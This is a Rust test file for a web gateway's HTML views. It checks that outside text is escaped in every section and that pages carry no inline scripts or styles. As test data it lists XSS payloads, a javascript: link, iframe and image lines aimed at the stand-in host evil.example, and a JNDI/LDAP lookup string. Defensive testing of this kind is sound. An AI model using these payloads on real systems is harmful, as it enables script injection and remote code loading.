//! Hostile text stays text, in every section that shows what somebody outside has written.

use ting_gateway::{
    Language,
    view::{Section, Visitor, dashboard, sign_in},
};

use crate::sample;

const PAYLOADS: [&str; 9] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "</title></textarea></bdi></section><iframe src=//evil.example>",
];

/// The sections that show texts from outside.
const WITH_TEXT: [Section; 4] = [Section::Themes, Section::Cases, Section::Alerts, Section::Comments];

/// Takes tags apart as a browser does: name, attribute names.
fn tags(html: &str) -> Vec<(String, Vec<String>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let name: String = rest.chars().take_while(|char| !char.is_whitespace() && *char != '>').collect();
        rest = &rest[name.len()..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            let attribute: String =
                rest.chars().take_while(|char| !char.is_whitespace() && !"=>".contains(*char)).collect();
            assert!(!attribute.is_empty(), "no attribute at {:?}", rest.chars().take(40).collect::<String>());
            rest = &rest[attribute.len()..];
            if let Some(value) = rest.strip_prefix("=\"") {
                rest = &value[value.find('"').expect("the value ends") + 1..];
            }
            attributes.push(attribute);
        }
        tags.push((name, attributes));
    }
    tags
}

#[test]
fn hostile_text_makes_no_tag_and_no_attribute_in_any_section() {
    let harmless = sample::board(Some("harmless"));
    for language in Language::ALL {
        for payload in PAYLOADS {
            let board = sample::board(Some(payload));
            for section in Section::ALL {
                let html = section.render(language, &board, sample::now()).into_string();
                let expected = section.render(language, &harmless, sample::now()).into_string();
                assert_eq!(tags(&html), tags(&expected), "{payload} in {section:?}");
            }
        }
    }
}

#[test]
fn hostile_text_is_shown_as_it_was_written_and_isolated() {
    for payload in PAYLOADS {
        let escaped =
            payload.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
        let board = sample::board(Some(payload));
        for section in WITH_TEXT {
            let html = section.render(Language::English, &board, sample::now()).into_string();
            if section == Section::Cases {
                assert!(html.contains(&format!("Assigned to <bdi>{escaped}</bdi>")), "{payload}: {html}");
            }
            assert!(html.contains(&format!("<bdi>{escaped}</bdi>")), "{payload} in {section:?}: {html}");
        }
    }
}

#[test]
fn the_frame_escapes_whose_page_it_is() {
    for payload in PAYLOADS {
        let board = sample::board(None);
        let visitor = |text| Visitor { workspace: text, subject: text, form_key: text };
        let html = dashboard(Language::English, &visitor(payload), &board, sample::now()).into_string();
        let expected =
            dashboard(Language::English, &visitor("harmless"), &board, sample::now()).into_string();
        assert_eq!(tags(&html), tags(&expected), "{payload}");
    }
}

#[test]
fn nothing_on_any_page_needs_a_style_or_a_script_of_its_own() {
    let board = sample::board(None);
    let visitor = Visitor { workspace: "acme", subject: "ann", form_key: "key" };
    for language in Language::ALL {
        let pages = [dashboard(language, &visitor, &board, sample::now()), sign_in(language, None)];
        for (name, attributes) in pages.iter().flat_map(|page| tags(&page.clone().into_string())) {
            assert!(
                !attributes.iter().any(|attribute| attribute == "style" || attribute.starts_with("on")),
                "{name} {attributes:?}"
            );
            assert!(
                name != "style" && (name != "script" || attributes.contains(&"src".to_owned())),
                "{name} {attributes:?}"
            );
        }
    }
}
